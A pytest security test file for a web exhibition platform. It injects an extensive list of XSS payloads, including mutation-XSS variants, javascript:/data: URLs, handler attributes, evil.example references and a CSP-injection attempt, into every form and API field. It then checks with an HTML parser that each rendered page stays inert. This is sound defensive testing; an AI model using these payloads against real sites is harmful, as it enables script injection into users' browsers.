"""Hostile visitors writing script: XSS payloads (mutation XSS included) in every text field an exhibitor, a curator or
a visitor fills, through the real forms and API, then every page and answer that shows the field, read with an HTML
parser: no element, attribute or URL of the attacker's survives."""
import json
import secrets
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest

from pavilions.blocks import sanitise_html
from tests import samples
from tests.conftest import Api, csrf_from, login
from tests.test_api_pavilions import create, put_draft
from tests.test_contests import make_contest

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<a href="javascript:alert(1)">j</a>',
    '<a href=" javascript:alert(1)">sp</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '<a href="vbscript:msgbox(1)">v</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    '<input type="image" formaction="https://evil.example/" src=x>',
    '<p style="background:url(javascript:alert(1));width:expression(alert(1))">css</p>',
    '<div style="behavior:url(https://evil.example/x.htc)">b</div>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<details open ontoggle=alert(1)>d</details>',
    '<p onclick="alert(1)" onmouseover=alert(1)>p</p>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<svg/onload=alert(1)>',
    '<a href="https://ok.example/" onfocus=alert(1) autofocus>a</a>',
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    "javascript:alert(1)",
]
SHORT = ["<script>x</script>", '"><img src=x onerror=1>', "javascript:alert(1)", "<svg onload=alert(1)>"]
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "background", "xlink:href", "cite",
                  "srcset", "ping", "manifest", "codebase", "longdesc", "lowsrc", "dynsrc"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
ATTACKER_TAGS = {"style", "svg", "math", "object", "embed", "base", "link", "meta", "iframe", "frame", "frameset",
                 "applet", "noscript", "template", "xmp", "plaintext"}
SITE_LINKS = {"stylesheet", "icon", "preload", "alternate", "canonical", "manifest", "modulepreload"}


class Audit(HTMLParser):
    """Collect what an attacker could run: scripts, handlers, script URLs, srcdoc, styles, foreign elements."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self._script = [], False

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _check(self, tag, attrs):
        values = {name.lower(): value or "" for name, value in attrs}
        self._script = tag == "script"
        where = f"<{tag} {values}>"
        if tag == "script" and not values.get("src", "").startswith("/static/"):
            self.problems.append(f"a script not from /static/: {where}")
        if tag in ATTACKER_TAGS and not self._site_element(tag, values):
            self.problems.append(f"an attacker's element: {where}")
        for name, value in values.items():
            squeezed = "".join(ch for ch in value if ch > " ").lower()
            if name.startswith("on"):
                self.problems.append(f"an event handler: {where}")
            elif name == "srcdoc" or name == "formaction" and not squeezed.startswith("/"):
                self.problems.append(f"{name}: {where}")
            elif (name in URL_ATTRIBUTES or name.startswith("data-") and name.endswith(("src", "url", "hls")))\
                    and squeezed.startswith(BAD_SCHEMES) and not self._inline_image(tag, name, squeezed):
                self.problems.append(f"a script URL: {where}")
            elif name == "style" and any(bad in squeezed for bad in ("expression", "url(", "javascript", "behavior")):
                self.problems.append(f"a script style: {where}")
            elif name in ("src", "srcset", "data") and ("evil.example" in squeezed or squeezed in ("x", "")) \
                    and tag in ("img", "input", "video", "audio", "source", "track"):
                self.problems.append(f"an attacker's source: {where}")
        if tag in ("form", "button", "input") and values.get("action", "/").lstrip()[:1] != "/":
            self.problems.append(f"a form to elsewhere: {where}")

    @staticmethod
    def _site_element(tag, values):
        # The site's own: its stylesheets and icons, its meta tags (no refresh), its sandboxed frames.
        if tag == "link":
            return values.get("rel") in SITE_LINKS and values.get("href", "").startswith("/")
        if tag == "meta":
            return "http-equiv" not in values or values["http-equiv"].lower() != "refresh"
        if tag == "iframe":
            src = values.get("src", "")
            return src.startswith("/") and not src.startswith("//") or "sandbox" in values and src.startswith("http")
        if tag == "svg":  # icons the templates draw
            return values.get("aria-hidden") == "true"
        return False

    @staticmethod
    def _inline_image(tag, name, value):
        return tag == "img" and name == "src" and value.startswith(("data:image/png", "data:image/jpeg",
                                                                     "data:image/gif", "data:image/webp"))

    def handle_endtag(self, tag):
        self._script = False

    def handle_data(self, data):
        if self._script and data.strip():
            self.problems.append(f"inline script: {data[:80]!r}")


def problems_in(html):
    audit = Audit()
    audit.feed(html)
    audit.close()
    return audit.problems


def assert_clean(answer, where):
    """Assert ANSWER is a page (or JSON) in which nothing of the attacker's runs."""
    assert answer.status_code < 500, (where, answer.status_code)
    text = answer.get_data(as_text=True)
    if answer.is_json:
        for value in _html_strings(answer.get_json()):
            assert not problems_in(value), (where, problems_in(value), value[:300])
        return text
    assert answer.mimetype == "text/html", (where, answer.mimetype)
    found = problems_in(text)
    assert not found, (where, found[:5])
    return text


def assert_shown(text, where):
    """Assert a payload reached the page as visible, escaped text (so the page was really tried)."""
    assert "&lt;script&gt;" in text or "&lt;img" in text or "&lt;svg" in text or "&#34;&gt;&lt;" in text, where


def _html_strings(value):
    """Yield the strings of a JSON answer that a client might put into a page as HTML (the sanitised ones)."""
    if isinstance(value, dict):
        for key, item in value.items():
            if key in ("html", "html_en", "snippet", "body") and isinstance(item, str):
                yield item
            else:
                yield from _html_strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _html_strings(item)


# The sanitiser itself


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_leaves_nothing_that_runs_and_is_idempotent(payload):
    once = sanitise_html(payload)
    assert not problems_in(once), (payload, once)
    # Mutation XSS lives in the gap between what a sanitiser saw and what the browser re-parses: cleaning the
    # output again must change nothing.
    assert sanitise_html(once) == once, (payload, once)
    nested = sanitise_html(f"<p>{payload}</p><blockquote>{payload}</blockquote>")
    assert not problems_in(nested) and sanitise_html(nested) == nested


def test_the_sanitiser_keeps_ordinary_rich_text():
    text = '<p>Safe <b>bold</b> <a href="https://example.com/x">link</a></p><ul><li>one</li></ul>'
    cleaned = sanitise_html(text)
    assert "<b>bold</b>" in cleaned and 'href="https://example.com/x"' in cleaned and "<li>one</li>" in cleaned
    assert 'rel="noopener noreferrer nofollow ugc"' in cleaned


# Pavilions: every field, every page that shows it


def _wait(api_user, media_id):
    body = api_user.wait_media(media_id)
    assert body["status"] == "ready", body
    return media_id


@pytest.fixture(scope="module")
def hostile_pavilion(app, worker):
    """A published pavilion with payloads in every field, its owner, the curator and the marker word."""
    from tests.conftest import new_user

    owner, curator = new_user(app, "exhibitor"), new_user(app, "curator")
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = f"10.91.{secrets.randbelow(250)}.{secrets.randbelow(250) + 1}"
    api = lambda user: Api(client, user.token)  # noqa: E731 - the shape the shared helpers take
    marker = "zx" + secrets.token_hex(4)
    everything = " ".join(PAYLOADS)
    pav = create(api, owner, f"{marker} <img src=x onerror=alert(1)>", summary=f"{marker} {everything}"[:2000])
    image = api(owner).upload(pav["id"], samples.jpeg(320, 240)).get_json()["id"]
    pano = api(owner).upload(pav["id"], samples.jpeg(800, 400), kind="panorama").get_json()["id"]
    _wait(api(owner), image)
    _wait(api(owner), pano)
    blocks = [
        {"kind": "text", "html": f"<p>{marker}</p>{everything}", "html_en": f"<p>{marker}</p>{everything}"},
        {"kind": "image", "media": [image], "alt": PAYLOADS[2], "caption": PAYLOADS[26]},
        {"kind": "panorama", "media": pano, "title": PAYLOADS[27], "caption": PAYLOADS[1],
         "hotspots": [{"pitch": 1, "yaw": 2, "text": p[:300]} for p in PAYLOADS[:8]]},
        {"kind": "embed", "url": 'https://player.bilibili.com/player.html?bvid=1&x="><script>alert(1)</script>',
         "title": PAYLOADS[28]},
    ]
    saved = put_draft(api, owner, pav["id"], blocks=blocks, tags=SHORT, name_en=PAYLOADS[29][:120],
                      summary_en=everything[:2000])
    assert saved.status_code == 200, saved.get_json()
    submitted = api(owner).post(f"/api/v1/pavilions/{pav['id']}/submit")
    assert submitted.status_code == 202, submitted.get_json()
    revision = submitted.get_json()["id"]
    yield dict(pav=pav, owner=owner, curator=curator, marker=marker, revision=revision, api=api, client=client)


def test_payloads_in_every_pavilion_field_render_inert_everywhere(app, hostile_pavilion):
    h = hostile_pavilion
    pav, marker = h["pav"], h["marker"]
    curator_client = app.test_client()
    login(curator_client, h["curator"])
    # Before approval: the curator's review page shows the submission and its changes.
    assert_shown(assert_clean(curator_client.get(f"/review/{h['revision']}"), "review page"), "review page")
    assert_clean(curator_client.get("/review/"), "review queue")
    decided = h["api"](h["curator"]).post(f"/api/v1/reviews/{h['revision']}", json={"decision": "approve"})
    assert decided.status_code == 200, decided.get_json()
    assert_clean(curator_client.get("/review/featured"), "featured page")
    owner_client = app.test_client()
    login(owner_client, h["owner"])
    edit = assert_clean(owner_client.get(f"/studio/pavilions/{pav['id']}"), "studio editor")
    assert_clean(owner_client.get("/studio/"), "studio index")
    assert_clean(owner_client.get(f"/studio/pavilions/{pav['id']}/preview"), "preview")
    assert_clean(owner_client.get(f"/studio/pavilions/{pav['id']}/upload"), "upload page")
    live = owner_client.post(f"/studio/pavilions/{pav['id']}/preview", data={
        "csrf_token": csrf_from(edit), "name": PAYLOADS[1], "summary": PAYLOADS[2], "block_count": "1",
        "blocks-0-kind": "text", "blocks-0-html": " ".join(PAYLOADS)})
    assert live.status_code == 200
    assert_clean(live, "live preview")
    visitor = app.test_client()
    pages = {"pavilion": f"/pavilions/{pav['slug']}", "hall": "/", "search": f"/?q={marker}",
             "tag": "/?tag=<script>x</script>", "reflected search": "/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"}
    for lang in ("zh_CN", "en"):
        visitor.set_cookie("lang", lang)
        for name, url in pages.items():
            text = assert_clean(visitor.get(url), f"{name} ({lang})")
            if name in ("pavilion", "search"):
                assert marker in text, (name, lang)
                assert_shown(text, f"{name} ({lang})")
    page = visitor.get(f"/pavilions/{pav['slug']}").get_data(as_text=True)
    assert "&lt;script&gt;" in page or "&lt;img" in page  # the plain fields are shown as text, escaped
    listed = visitor.get("/api/v1/pavilions", query_string={"q": marker})
    assert listed.is_json and listed.get_json()["items"][0]["snippet"]
    assert_clean(listed, "API search with snippets")
    assert_clean(visitor.get(f"/api/v1/pavilions/{pav['slug']}"), "API pavilion")
    assert_clean(owner_client.get(f"/api/v1/pavilions/{pav['id']}/draft",
                                  headers={"Authorization": f"Bearer {h['owner'].token}"}), "API draft")


def test_errors_that_echo_input_escape_it(app, hostile_pavilion):
    h = hostile_pavilion
    owner_client = app.test_client()
    login(owner_client, h["owner"])
    edit_url = f"/studio/pavilions/{h['pav']['id']}"
    token = csrf_from(owner_client.get(edit_url).get_data(as_text=True))
    form = {"csrf_token": token, "name": "n", "version": "0", "op": "save", "block_count": "2",
            "blocks-0-kind": "embed", "blocks-0-url": "https://<svg onload=alert(1)>.evil.example/x",
            "blocks-1-kind": "panorama", "blocks-1-hotspots": "</textarea><script>alert(1)</script>"}
    answer = owner_client.post(edit_url, data=form)
    text = assert_clean(answer, "editor with errors")
    assert "flash" in text
    refused = h["api"](h["owner"]).put(f"/api/v1/pavilions/{h['pav']['id']}/draft", json={
        "version": 0, "blocks": [{"kind": "embed", "url": "https://<script>alert(1)</script>.example/"}]})
    assert refused.status_code in (409, 422) and refused.is_json
    signin = app.test_client()
    login_page = signin.get("/login").get_data(as_text=True)
    answer = signin.post("/login", data={"email": '"><script>alert(1)</script>@x.example', "password": "p",
                                         "csrf_token": csrf_from(login_page)})
    assert_clean(answer, "login with a hostile e-mail")
    assert_clean(signin.get("/pavilions/%3Cscript%3Ealert(1)%3C%2Fscript%3E"), "404 page")
    assert_clean(signin.get("/works?q=%3Cscript%3Ealert(1)%3C/script%3E&topic=%22%3E%3Cimg"), "works search")
    reg_page = signin.get("/register").get_data(as_text=True)
    answer = signin.post("/register", data={"email": "<script>@x", "password": "correct-horse-battery",
                                            "display_name": PAYLOADS[1], "csrf_token": csrf_from(reg_page)})
    assert_clean(answer, "register with a hostile e-mail")


# The programme: contests, days, works, live broadcast


def _iso(delta):
    return (datetime.now(UTC) + delta).isoformat()


def test_payloads_in_contests_render_inert(app, hostile_pavilion, curator):
    from tests.test_contests import register

    c = Api(app.test_client(), curator.token)
    questions = [
        {"kind": "single", "text": PAYLOADS[2], "explanation": PAYLOADS[4],
         "options": [{"text": PAYLOADS[1], "correct": True}, {"text": PAYLOADS[7], "correct": False}]},
        {"kind": "multiple", "text": PAYLOADS[3], "explanation": PAYLOADS[14],
         "options": [{"text": PAYLOADS[0], "correct": True}, {"text": PAYLOADS[26], "correct": True},
                     {"text": PAYLOADS[28], "correct": False}]},
    ]
    contest = make_contest(lambda _u: c, None, questions=questions, title=PAYLOADS[29], title_en=PAYLOADS[26])
    player = app.test_client()
    player.environ_base["REMOTE_ADDR"] = f"10.92.{secrets.randbelow(250)}.{secrets.randbelow(250) + 1}"
    person = register(player, PAYLOADS[1])
    login(player, type("U", (), {"email": person["email"], "password": "correct-horse-battery"}))
    start = player.post(f"/contests/{contest['id']}/start", data={
        "csrf_token": csrf_from(player.get(f"/contests/{contest['id']}").get_data(as_text=True))})
    assert start.status_code == 302, start.get_data(as_text=True)
    attempt_url = start.headers["Location"]
    page = assert_clean(player.get(attempt_url), "attempt page")
    assert_shown(page, "attempt page")
    assert_clean(player.post(attempt_url, data={"csrf_token": csrf_from(page)}), "answers sent")
    assert_shown(assert_clean(player.get(attempt_url), "result page"), "result page with explanations")
    curator_client = app.test_client()
    login(curator_client, curator)
    for url in ("/contests", f"/contests/{contest['id']}", f"/contests/{contest['id']}/leaderboard",
                "/api/v1/contests", f"/api/v1/contests/{contest['id']}/leaderboard"):
        text = assert_clean(player.get(url), url)
        if not url.startswith("/api/"):
            assert_shown(text, url)
    assert_clean(curator_client.get("/review/contests"), "contest management")
    csv_answer = curator_client.get(f"/review/contests/{contest['id']}/results.csv")
    assert csv_answer.mimetype == "text/csv" and "attachment" in csv_answer.headers["Content-Disposition"]


def test_payloads_in_days_works_and_the_live_broadcast_render_inert(app, hostile_pavilion, curator):
    from expo.extensions import db
    from pavilions.programme.models_live import Broadcast

    c = Api(app.test_client(), curator.token)
    work = c.post("/api/v1/works", json={"title": PAYLOADS[1], "title_en": PAYLOADS[26], "kind": "article",
                                         "scenario": "office", "topics": ["network_security"],
                                         "summary": PAYLOADS[2], "summary_en": PAYLOADS[29],
                                         "body": " ".join(PAYLOADS)})
    assert work.status_code == 201, work.get_json()
    day_slug = f"xss-{secrets.token_hex(4)}"
    date = f"2{secrets.randbelow(900) + 100}-0{secrets.randbelow(9) + 1}-1{secrets.randbelow(9)}"
    day = c.post("/api/v1/days", json={
        "slug": day_slug, "date": date,
        "name": PAYLOADS[0], "name_en": PAYLOADS[26], "summary": PAYLOADS[3], "summary_en": PAYLOADS[28],
        "pavilions": [hostile_pavilion["pav"]["slug"]], "works": [work.get_json()["id"]]})
    assert day.status_code == 201, day.get_json()
    start = datetime.now(UTC) - timedelta(minutes=1)
    live = c.put("/api/v1/live", json={
        "title": PAYLOADS[0], "title_en": PAYLOADS[26], "starts_at": start.isoformat(),
        "ends_at": (start + timedelta(hours=1)).isoformat(),
        "hls_url": "https://live.example-cdn.cn/a.m3u8?x=\"><script>alert(1)</script>"})
    try:
        assert live.status_code in (200, 201), live.get_json()
        visitor, curator_client = app.test_client(), app.test_client()
        login(curator_client, curator)
        for lang in ("zh_CN", "en"):
            visitor.set_cookie("lang", lang)
            for url in (f"/days/{day_slug}", "/works", f"/works/{work.get_json()['id']}", "/live"):
                assert_shown(assert_clean(visitor.get(url), f"{url} ({lang})"), f"{url} ({lang})")
            assert_clean(visitor.get("/"), f"hall ({lang})")
        for url in ("/api/v1/days", "/api/v1/works", "/api/v1/live"):
            answer = visitor.get(url)
            assert answer.is_json
            assert_clean(answer, url)
        for url in ("/review/days", f"/review/days/{day_slug}", "/review/works", "/review/live"):
            assert_shown(assert_clean(curator_client.get(url), url), url)
        # A stream address cannot write into the live page's Content-Security-Policy either.
        attacker_csp = c.put("/api/v1/live", json={
            "title": "t", "starts_at": start.isoformat(), "ends_at": (start + timedelta(hours=1)).isoformat(),
            "hls_url": "https://cdn.example;script-src 'unsafe-inline' *;/a.m3u8"})
        if attacker_csp.status_code in (200, 201):
            policy = visitor.get("/live").headers["Content-Security-Policy"]
            assert "'unsafe-inline'" not in policy and policy.count("script-src") == 1, policy
        else:
            assert attacker_csp.status_code == 422 and attacker_csp.get_json()["error"]["code"] == "invalid_url"
        assert json.dumps(visitor.get("/api/v1/live").get_json())
    finally:
        with app.app_context():  # other modules' tests expect their own broadcasts only
            db.session.query(Broadcast).filter(Broadcast.starts_at == start).delete()
            db.session.commit()
